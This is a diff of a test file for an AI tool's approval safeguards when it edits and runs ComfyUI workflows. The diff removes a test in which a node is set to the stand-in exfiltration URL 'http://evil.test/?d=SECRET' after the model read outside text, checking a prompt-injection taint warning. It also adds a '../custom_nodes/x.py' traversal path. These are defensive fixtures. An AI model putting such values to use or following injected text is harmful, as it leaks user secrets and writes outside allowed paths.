@@ -7,6 +7,7 @@ import { createFakeComfy } from "../comfy/fake";
 import type { ApprovalRequest } from "../shared/toolCalls";
 import { editWorkflow } from "../tools/editWorkflow";
 import { executeWorkflow } from "../tools/executeWorkflow";
+import type { Ask } from "../tools/missing/ask";
 import { roomOf } from "../tools/room";
 import { hostileNodes } from "../tools/testing/hostileNodes";
 import { success } from "../tools/testing/testRuns";
@@ -42,6 +43,9 @@ const withTextFile = () =>
     }),
   );
 
+/** The packages are trusted: what is asked is asked because of what their nodes do. */
+const trusting: Ask = async () => ({ ok: true, value: { packages: ["a-package"] } });
+
 /** In Auto mode; each question is answered by `answer`, which may also do something. */
 function chat(comfy: FakeComfy) {
   const approvals = createApprovals({ getItem: () => "auto", setItem() {} });
@@ -59,15 +63,14 @@ function chat(comfy: FakeComfy) {
       questions.push(question);
       answer(question);
     });
-    const { outside } = more;
     const result = await runTool(tool, args, comfy, {
       signal: stop.signal,
       room: roomOf(),
       onProgress() {},
       thread: "thread",
       turn: "turn",
-      confirm: (request) =>
-        approvals.confirm("call", { ...request, ...(outside && { outside }) }, stop.signal),
+      confirm: (request) => approvals.confirm("call", request, stop.signal),
+      ask: trusting,
       ...more,
     });
     unsubscribe();
@@ -80,7 +83,7 @@ function chat(comfy: FakeComfy) {
 it("what is allowed for the chat ends with another text that comes into the node by a link", async () => {
   const comfy = withUrl();
   const { approvals, questions, call, deny } = chat(comfy);
-  await call(executeWorkflow, {}, (question) => approvals.allowSame(question));
+  await call(executeWorkflow, {}, (question) => approvals.answer(question, true));
   await call(executeWorkflow, {}, deny);
   expect([questions.length, comfy.queue.runs.length]).toEqual([1, 2]);
 
@@ -90,32 +93,16 @@ it("what is allowed for the chat ends with another text that comes into the node
   expect([questions.length, comfy.queue.runs.length]).toEqual([2, 2]);
 });
 
-it("that the model had read others' text before it changed a node is said beside the node's other risks", async () => {
-  const comfy = withUrl();
-  const { approvals, questions, call, deny } = chat(comfy);
-  await call(executeWorkflow, {}, (question) => approvals.allowSame(question));
-  const outside = ["note 5"];
-  const set = { op: "set", nodes: ["3"], widgets: { value: "http://evil.test/?d=SECRET" } };
-  await call(editWorkflow, { operations: [set] }, () => {}, { outside });
-  await call(executeWorkflow, {}, deny, { outside });
-  expect(questions.at(-1)).toMatchObject({
-    always: true,
-    detail: expect.stringMatching(/uses the network.*was changed after text by others was read/),
-  });
-  expect(questions.at(-1)?.same).toBeUndefined();
-  expect(comfy.queue.runs.length).toBe(1);
-});
-
 it("an edit while the language model makes room is asked about before anything runs", async () => {
   const comfy = withTextFile();
   const { questions, call, deny } = chat(comfy);
   const result = await call(executeWorkflow, {}, deny, {
     async ask(method) {
-      if (method === "POST") comfy.edit((editor) => editor.setWidget("3", "path", "custom_nodes/x.py"));
-      return { ok: true, value: {} };
+      if (method === "POST") comfy.edit((editor) => editor.setWidget("3", "path", "../custom_nodes/x.py"));
+      return trusting("GET", "");
     },
   });
-  expect(questions).toMatchObject([{ detail: expect.stringContaining("custom_nodes/x.py") }]);
+  expect(questions).toMatchObject([{ detail: expect.stringContaining("../custom_nodes/x.py") }]);
   expect([result.ok, comfy.queue.runs.length]).toEqual([false, 0]);
 });
 
@@ -126,7 +113,7 @@ it("what changes each time that it is about to run is not run", async () => {
   const result = await call(executeWorkflow, {}, (question) => approvals.answer(question, true), {
     async ask(method) {
       if (method === "POST") comfy.edit((editor) => editor.setWidget("3", "path", `/elsewhere/${count++}`));
-      return { ok: true, value: {} };
+      return trusting("GET", "");
     },
   });
   expect(result).toMatchObject({ ok: false, error: expect.stringContaining("changes by itself") });
